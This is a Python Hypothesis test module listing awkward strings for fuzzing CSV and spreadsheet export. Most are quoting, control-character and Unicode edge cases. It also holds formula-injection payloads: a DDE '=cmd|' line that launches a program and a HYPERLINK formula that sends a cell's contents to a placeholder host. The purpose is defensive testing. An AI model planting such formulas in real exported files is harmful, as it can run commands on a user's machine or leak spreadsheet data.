"""Texts that spreadsheets and readers of CSV stumble over."""

from hypothesis import strategies as st

PAYLOADS = (
    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"win")', "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0"),
    *(
        "+386 40 123 456",
        "+1-2",
        "-",
        "+",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "|x",
        "%0A=1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20x",
    ),
    *("'=1+1", "''=1+1", "'tis so", "'", "''", "'+", 'say "no"', '"', '""', ",", ";", "a,b", "a;b", "a\tb", "tab\t"),
    *(
        "a\nb",
        "a\r\nb",
        "a\rb",
        "\n",
        "\r\n",
        "ends\n",
        " before",
        "after ",
        "  ",
        "0012",
        "1e5",
        "1,5",
        "TRUE",
        "#N/A",
    ),
    *("2026-03-02", "12:30", "_x000D_", "_x0041_", "\x01", "\x0b", "\x7f", "\x85", "\u2028", "\u200b", "\ufeff", "😀"),
    *(
        "Šárka Ďurišová",
        "Ольга",
        "日本語",
        "العربية",
        "e\u0301",
        "NULL",
        "nan",
        "None",
        "http://x.example",
        "mailto:x@y.example",
    ),
)

#: Any text that a store keeps: no NUL, no half of a pair; and none of the two that no XML can hold.
texts = st.text(
    st.characters(blacklist_categories=["Cs"], blacklist_characters="\0\ufffe\uffff"), max_size=20
) | st.lists(st.sampled_from(PAYLOADS), max_size=3).map("".join)
